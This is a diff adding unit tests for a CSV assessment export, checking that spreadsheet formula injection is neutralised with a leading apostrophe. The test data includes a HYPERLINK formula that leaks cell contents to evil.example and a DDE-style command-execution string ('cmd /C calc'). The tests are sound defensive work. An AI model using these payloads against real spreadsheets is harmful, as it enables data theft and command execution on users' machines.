@@ -86,3 +86,36 @@ describe("JSON export", () => {
     expect(json.assessments[0]!.scores!.dimensions.strategy).toEqual({ score: 200 / 3, stage: "advanced", status: "scored" });
   });
 });
+
+describe("formula injection (issue 11, finding 1)", () => {
+  const payload = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")';
+  const text = allItems.find((item) => item.kind === "text")!;
+
+  it.each([
+    payload,
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    `${payload}\nsecond line`,
+    "＝1+1",
+  ])("writes %j as text, with a leading apostrophe", (comment) => {
+    const evil: ExportRecord = { ...record, agencyName: comment, answers: { ...record.answers, [text.id]: { value: comment } } };
+    const [row] = Papa.parse<Record<string, string>>(toAssessmentsCsv([evil]).slice(1), { header: true }).data;
+    expect(row![text.id]).toBe(`'${comment}`);
+    expect(row!.agency_name).toBe(`'${comment}`);
+  });
+
+  it("leaves numbers alone, including negative ones, and ordinary text", () => {
+    const [row] = Papa.parse<Record<string, string>>(toAssessmentsCsv([record]).slice(1), { header: true }).data;
+    expect(row!.agency_name).toBe("กรมการจัดหางาน");
+    expect(row!.round).toBe("2026");
+  });
+
+  it("the codebook says so for every free-text column", () => {
+    const textRows = codebookRows().filter((row) => row.type === "free text");
+    expect(textRows.length).toBeGreaterThan(0);
+    for (const row of textRows) expect(row.values).toContain("leading apostrophe");
+  });
+});
